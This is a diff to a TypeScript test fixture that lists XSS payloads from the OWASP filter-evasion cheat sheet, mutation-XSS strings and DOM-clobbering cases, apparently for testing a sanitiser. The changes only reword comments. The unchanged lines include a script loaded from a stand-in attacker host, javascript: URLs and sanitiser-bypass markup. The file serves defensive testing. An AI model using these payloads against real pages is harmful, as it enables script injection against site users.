@@ -1,10 +1,10 @@
 /**
- * Bodies of posts that try to run a script or to leave their place: the cases of the OWASP XSS Filter Evasion Cheat Sheet
+ * Bodies of posts that try to run a script or to affect the rest of the page: the cases of the OWASP XSS Filter Evasion Cheat Sheet
  * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), mutation XSS that got past sanitisers in
- * the past, DOM clobbering, and what Markdown itself makes possible. Each calls `hit()` if it succeeds.
+ * the past, DOM clobbering, and cases in Markdown. Each calls `hit()` if it succeeds.
  */
 export const xssCases: readonly string[] = [
-  // Scripts, however they are spelled.
+  // Scripts in different spellings.
   '<script>hit()</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   '<ScRiPt>hit()</sCrIpT>',
@@ -122,7 +122,7 @@ export const xssCases: readonly string[] = [
   '<DIV STYLE="width: expression(hit());">Text</DIV>',
   '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">Text</div>',
   '<TABLE BACKGROUND="javascript:hit()"><TD BACKGROUND="javascript:hit()">Cell</TABLE>',
-  // Mutation XSS: harmless as it is parsed first, harmful as it is parsed again.
+  // Mutation XSS: harmless when it is parsed first, harmful when it is parsed again.
   '<noscript><p title="</noscript><img src=x onerror=hit()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
